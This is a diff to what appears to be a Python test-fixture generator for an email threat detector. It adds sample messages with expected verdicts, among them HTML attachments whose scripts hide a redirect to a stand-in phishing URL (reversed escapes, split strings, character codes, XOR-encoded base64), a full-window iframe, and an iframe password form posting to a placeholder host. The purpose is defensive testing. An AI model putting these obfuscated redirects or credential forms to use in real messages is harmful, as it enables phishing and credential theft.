@@ -760,6 +760,7 @@ def main():
     sender_review31_samples()
     review32_samples()
     review36_samples()
+    review37_samples()
     seeds(docm, z, pdf, qr)
 
     with open(os.path.join(OUT, "expect.txt"), "w") as f:
@@ -2272,6 +2273,109 @@ def review36_samples():
           plain("Your order BBY01-806512345 has shipped.\nTrack it: "
                 "https://www.bestbuy.com/profile/ss/orders"),
           "clean", "!sender.display_brand")
+
+
+def review37_samples():
+    """Review 37's shapes: file names shown as links, an SVG picture that
+    is a link, web pages attached whose script works out where to send
+    the browser (escapes reversed, pieces joined, character codes, a
+    loop that hides it), a page in a full-window frame, a password form
+    in a frame's srcdoc."""
+    def mail(fname, att_name, ctype, body, verdict, *rules):
+        write(fname, headers("Accounts <accounts@remit-notice.example>",
+                             "Remittance advice") +
+              'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
+              "Content-Type: text/plain; charset=utf-8\n\nSee attached."
+              "\n\n--b1\nContent-Type: %s; name=\"%s\"\n"
+              'Content-Disposition: attachment; filename="%s"\n'
+              "Content-Transfer-Encoding: base64\n\n%s\n--b1--\n"
+              % (ctype, att_name, att_name, b64(body.encode())),
+              verdict, *rules)
+
+    def page(script):
+        return ("<!DOCTYPE html><html><head><meta charset='utf-8'><title>"
+                "Remittance</title></head><body><div>Loading secure "
+                "document...</div><script>%s</script></body></html>"
+                % script)
+
+    # A correspondent's links shown as its files' names, to its own
+    # OneDrive: no domain shown, nothing pretended.
+    write("en-399-clean-file-name-links.eml",
+          eop_pass("fabrikam.com", "40.107.226.41") +
+          headers("Emily Chen <emily.chen@fabrikam.com>",
+                  "Budget and notes") +
+          "Content-Type: text/html; charset=utf-8\n\n<html><body><p>Hi "
+          "Taro, the files for Thursday:</p><p><a href=\"https://fabrikam-"
+          "my.sharepoint.com/:x:/g/personal/emily_chen_fabrikam_com/EbQ1\">"
+          "Budget_2027.xlsx</a><br><a href=\"https://fabrikam-my.sharepoint"
+          ".com/:w:/g/personal/emily_chen_fabrikam_com/EbQ2\">Meeting-notes"
+          ".docx</a></p><p>Emily</p></body></html>\n",
+          "clean", "!url.text_mismatch", "!url.file_text")
+    # A document "attached" as a link to a web page elsewhere.
+    write("en-400-file-text-link.eml",
+          headers("Escritorio Juridico <contato@juridico-aviso.example>",
+                  "Processo 184782") +
+          "Content-Type: text/html; charset=utf-8\n\n<html><body><p>Segue "
+          "em anexo o processo.</p><p><a href=\"https://clk-mail.example/"
+          "c/11pyph\">ver-processo-184782.pdf</a></p></body></html>\n",
+          "clean", "url.file_text", "!url.text_mismatch")
+    # An SVG picture whose one shape is a link.
+    mail("en-401-svg-link.eml", "Remittance.svg", "image/svg+xml",
+         '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.'
+         'w3.org/1999/xlink" width="600" height="200"><a xlink:href="https:'
+         '//remit-portal.example/view"><rect width="600" height="200" '
+         'fill="#0078d4"/><text x="40" y="110" fill="#fff" font-size="28">'
+         'View remittance</text></a></svg>',
+         "potential", "attach.svg_link")
+    # Where the page sends the browser, hidden four ways.
+    url = "https://remit-portal.example/common/oauth2/?e=taro"
+    mail("en-402-html-reversed-escapes.eml", "Remittance.html", "text/html",
+         page("var p='%s';var t=p.split('').reverse().join('');"
+              "self['loc'+'ation']['rep'+'lace'](t);" %
+              "".join("\\x%02x" % ord(c) for c in url[::-1])),
+         "threat", "attach.html_redirect")
+    mail("en-403-html-joined.eml", "Remittance.html", "text/html",
+         page("var a=[%s];window['location']=a.join('');" %
+              ",".join("'%s'" % url[i:i + 5] for i in range(0, len(url), 5))),
+         "threat", "attach.html_redirect")
+    mail("en-404-html-charcodes.eml", "Remittance.html", "text/html",
+         page("window.location.href=String.fromCharCode(%s);" %
+              ",".join(str(ord(c)) for c in url)),
+         "threat", "attach.html_redirect")
+    mail("en-405-html-hidden.eml", "Remittance.html", "text/html",
+         page("var k=7,s=atob('%s'),o='';for(var i=0;i<s.length;i++)"
+              "o+=String.fromCharCode(s.charCodeAt(i)^k);"
+              "window.location.replace(o);" % base64.b64encode(
+                  bytes(ord(c) ^ 7 for c in url)).decode()),
+         "threat", "attach.html_hidden_redirect")
+    # A page in a frame the size of the window is that page, opened; a
+    # frame's srcdoc is a page too, its password form the form.
+    mail("en-406-html-frame.eml", "Remittance.html", "text/html",
+         "<!DOCTYPE html><html><body><iframe src='%s' style='position:"
+         "fixed;top:0;left:0;width:100%%;height:100%%;border:0'></iframe>"
+         "</body></html>" % url, "threat", "attach.html_redirect")
+    mail("en-407-html-srcdoc-form.eml", "Remittance.html", "text/html",
+         '<!DOCTYPE html><html><body><iframe srcdoc="&lt;form action=&quot;'
+         'https://remit-portal.example/p.php&quot; method=&quot;post&quot;'
+         '&gt;Email &lt;input name=&quot;e&quot;&gt;Password &lt;input '
+         'type=&quot;password&quot; name=&quot;p&quot;&gt;&lt;/form&gt;" '
+         'style="border:0;width:100%;height:600px"></iframe></body></html>',
+         "threat", "attach.html_credential_form")
+    # A report saved as a page: its script reads the address bar and
+    # spells two accents with escapes; it sends the browser nowhere.
+    write("en-408-html-report-script.eml",
+          headers("Emily Chen <emily.chen@fabrikam.com>", "Usage report") +
+          'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
+          "Content-Type: text/plain; charset=utf-8\n\nThe report is "
+          "attached.\n\n--b1\nContent-Type: text/html; name=\"report.html\""
+          '\nContent-Disposition: attachment; filename="report.html"\n'
+          "Content-Transfer-Encoding: base64\n\n" + b64((
+              "<!DOCTYPE html><html><body><h1>Usage</h1><table id='t'>"
+              "</table><script>var tab=location.hash.slice(1)||'all';"
+              "var title='R\\u00e9sum\\u00e9 ('+tab+')';"
+              "document.title=title;</script></body></html>").encode()) +
+          "\n--b1--\n", "potential", "attach.html",
+          "!attach.html_redirect", "!attach.html_hidden_redirect")
 
 
 def review32_samples():
